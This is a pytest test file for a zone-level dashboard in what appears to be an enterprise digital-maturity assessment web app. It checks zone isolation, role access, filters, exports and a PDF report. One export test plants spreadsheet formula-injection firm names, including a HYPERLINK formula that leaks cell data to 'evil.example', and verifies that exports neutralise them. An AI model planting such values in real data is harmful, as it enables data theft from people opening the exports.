"""Zone dashboard, firm lists, exports and the zone report: right numbers, own zone only."""
from __future__ import annotations

import csv
import io

import numpy as np
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from pypdf import PdfReader

from diagnosis.extensions import db
from diagnosis.models import AuditEvent, Company, Result, utcnow

PARTS = ("overview", "levels", "dimensions", "heatmap", "trend", "closest", "stalled")


@pytest.fixture
def seeded(app, world):
    """Zone A: its two firms assessed three times each; zone B: its two firms once."""
    from diagnosis.demo import submit_synthetic
    with app.app_context():
        rng = np.random.default_rng(7)
        for zone, rounds in ((world.a.zone, 3), (world.b.zone, 1)):
            firms = db.session.scalars(sa.select(Company).where(Company.zone_id == zone).order_by(Company.id)).all()
            for k in range(rounds):
                submit_synthetic("sme-digital", firms, np.full(len(firms), 0.2 + 0.2 * k), rng, utcnow(), days=(400 - 150 * k, 401 - 150 * k))
        db.session.commit()
    return world


def test_dashboard_figures_count_each_firm_once_and_only_in_its_zone(app, seeded, client):
    c = client().login(seeded.a.zone_admin)
    assert c.get("/zone/").status_code == 200
    figures = {part: c.get(f"/zone/data/{part}.json").get_json() for part in PARTS}
    assert figures["overview"]["registered"] == 2 and figures["overview"]["assessed"] == 2
    assert figures["levels"]["total"] == 2
    assert sum(p["n"] for p in figures["trend"]["periods"]) == 6  # three rounds of two firms
    assert {cell["n"] for cell in figures["heatmap"]["cells"]} == {1}
    names = [r["name"] for r in figures["closest"]["rows"]] + [r["name"] for r in figures["stalled"]["rows"]]
    assert names and all(n.startswith("A号") for n in names)
    # A zone id in the query changes nothing: the zone is always the user's own.
    assert c.get(f"/zone/data/overview.json?zone_id={seeded.b.zone}").get_json() == figures["overview"]
    page = c.get("/zone/firms").text
    assert "A号精密机械有限公司" in page and "B号" not in page


def test_other_roles_cannot_open_the_dashboard(app, seeded, client):
    for email in (seeded.a.consultant, seeded.a.enterprise):
        c = client().login(email)
        for url in ("/zone/", "/zone/data/levels.json", "/zone/firms", "/zone/firms.csv", "/zone/report.pdf"):
            assert c.get(url).status_code == 403, (email, url)


@pytest.mark.parametrize("query, reason", [
    ("period=2026-3", "2026Q3"), ("industry=zz", "两位"), ("instrument=nope", "nope"), ("size=huge", "规模"),
    ("level=two", "等级"),
])
def test_bad_filters_are_refused_with_a_reason(app, seeded, client, query, reason):
    c = client().login(seeded.a.zone_admin)
    url = "/zone/firms?" + query if query.startswith("level") else "/zone/data/levels.json?" + query
    r = c.get(url)
    assert r.status_code == 400 and reason in r.text


def test_drill_down_lists_the_firms_behind_a_figure(app, seeded, client):
    c = client().login(seeded.a.zone_admin)
    levels = c.get("/zone/data/levels.json").get_json()["levels"]
    for lv in levels:
        html = c.get(f"/zone/firms?level={lv['level']}").text
        assert f"共 {lv['count']} 家企业" in html
    closest = c.get("/zone/data/closest.json").get_json()["rows"]
    gaps = [r["next_gap"] for r in closest]
    assert gaps == sorted(gaps)
    html = c.get("/zone/firms?industry=34&dimension=foundation").text
    assert "A号精密机械有限公司" in html and "A号电子有限公司" not in html


def test_re_assessment_links_each_result_to_the_level_before(app, seeded):
    with app.app_context():
        rows = db.session.execute(sa.select(Result.company_id, Result.is_latest, Result.previous_level, Result.level)
                                  .join(Company, Company.id == Result.company_id)
                                  .where(Company.zone_id == seeded.a.zone).order_by(Result.company_id, Result.id)).all()
        for company in {r.company_id for r in rows}:
            mine = [r for r in rows if r.company_id == company]
            assert [r.is_latest for r in mine] == [False, False, True]
            assert [r.previous_level for r in mine] == [None, mine[0].level, mine[1].level]


def test_exports_neutralise_formulas_and_are_audited(app, seeded, client):
    with app.app_context():
        firm = db.session.get(Company, seeded.a.firm)
        firm.name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
        other = db.session.get(Company, seeded.a.other)
        other.name = "+SUM(1,2)@-"
        db.session.commit()
    c = client().login(seeded.a.zone_admin)
    r = c.get("/zone/firms.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    names = {row[0] for row in rows[1:]}
    assert names == {"'" + '=HYPERLINK("http://evil.example/?"&A1,"点击")', "'+SUM(1,2)@-"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    x = c.get("/zone/firms.xlsx")
    ws = load_workbook(io.BytesIO(x.data)).active
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert {ws.cell(row=i, column=1).value for i in (2, 3)} == names
    with app.app_context():
        actions = db.session.scalars(sa.select(AuditEvent.action).where(AuditEvent.action == "export")).all()
        assert len(actions) == 2


def test_zone_report_pdf(app, seeded, client):
    c = client().login(seeded.a.zone_admin)
    r = c.get("/zone/report.pdf")
    assert r.status_code == 200 and r.mimetype == "application/pdf"
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(r.data)).pages)
    for heading in ("园区数字化转型诊断报告", "Zone A", "等级分布", "分行业", "分规模", "最薄弱的维度", "最接近下一等级的企业", "与上一季度相比"):
        assert heading in text, heading
    assert "A号精密机械有限公司" in text and "B号" not in text


def test_filters_survive_the_round_trip_through_links(app, seeded, client):
    """The page's links and the figures it fetches carry the chosen instrument and filters."""
    c = client().login(seeded.a.zone_admin)
    html = c.get("/zone/?instrument=cloud-adoption&industry=34").text
    assert "instrument=cloud-adoption" in html and "instrument_id" not in html
    assert 'data-query="instrument=cloud-adoption&amp;industry=34"' in html
    assert c.get("/zone/data/levels.json?instrument=cloud-adoption").get_json()["total"] == 0


def test_a_firm_at_the_top_level_is_not_stalled(app, seeded, client):
    with app.app_context():
        db.session.execute(sa.update(Result).values(level=4, previous_level=4, next_gap=None)
                           .where(Result.is_latest, Result.company_id == seeded.a.firm))
        db.session.commit()
    rows = client().login(seeded.a.zone_admin).get("/zone/data/stalled.json").get_json()["rows"]
    assert seeded.a.firm not in {r["company_id"] for r in rows}
